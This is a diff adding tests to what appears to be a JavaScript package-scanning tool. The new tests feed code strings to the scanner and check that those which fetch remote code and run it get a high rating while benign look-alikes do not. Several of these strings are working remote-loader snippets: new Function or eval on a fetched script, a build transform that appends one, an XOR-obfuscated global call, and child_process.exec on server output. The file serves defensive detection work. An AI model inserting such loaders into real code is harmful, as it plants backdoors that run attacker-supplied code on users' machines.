@@ -559,3 +559,23 @@ test('good: a script of the package is started with the name of a file that anot
   for (const start of ['cp.spawnSync(process.execPath, [path.join("bin", "run.js"), "--file", file])', 'cp.spawn("node", ["./bin/run.js", file])', 'cp.spawn(process.execPath, [path.join(__dirname, "bin", "run.js"), file])']) assert.equal(verdict(start), 'nothing', start);
   for (const start of ['cp.spawnSync(process.execPath, [file])', 'cp.spawnSync(process.execPath, ["-r", file, "bin/run.js"])', 'cp.spawnSync(process.execPath, [file, "bin/run.js"])', 'cp.spawn("node", ["bin/other.js", file])', 'cp.spawn("sh", ["bin/run.js", file])', 'cp.spawn(file, ["bin/run.js"])']) assert.equal(verdict(start), 'high', start);
 });
+
+test('a function of the global object whose name is decoded gets what a server answered', () => {
+  assert.equal(worst('const dec = (a) => a.map((n) => String.fromCharCode(n ^ 7)).join(""); const run = globalThis[dec(codes)]; fetch(u).then((r) => r.text()).then((t) => run(t))'), 'high');
+  assert.equal(worst('fetch(u).then((r) => r.json()).then((data) => window[name](data))'), 'nothing');
+});
+
+test('a text that is code which runs what a server answers', () => {
+  for (const code of [
+    'exports.tail = ";(function(){fetch(\'https://cdn.widgets.org/a.js\').then(function(r){return r.text()}).then(function(t){new Function(t)()})})();"',
+    'const from = "https://cdn.widgets.org/a.js"; item.code += "fetch(\'" + from + "?h=\' + location.host).then((r) => r.text()).then((t) => (0, eval)(t))"',
+    'export default () => ({ transform: (code) => `${code}\\n(async () => { const r = await fetch("https://cdn.widgets.org/a.js"); new Function(await r.text())(); })();` })',
+    'html = html.replace("</body>", `<b></b>`); const code = `require("https").get("https://cdn.widgets.org/", (r) => r.on("data", (d) => require("child_process").exec(d.toString())))`',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    'const client = `new WebSocket("ws://localhost:5173").onmessage = (e) => eval(e.data)`',
+    'const sample = `const r = await fetch("https://api.widgets.org/v1"); console.log(await r.json())`',
+    'const text = `Never eval what https://widgets.org/a.js answers to fetch.`',
+    'const code = "new Function(\'return 1\')(); fetch(\'https://cdn.widgets.org/a.json\').then((r) => r.json()).then(show)"',
+  ]) assert.notEqual(worst(code), 'high', code);
+});
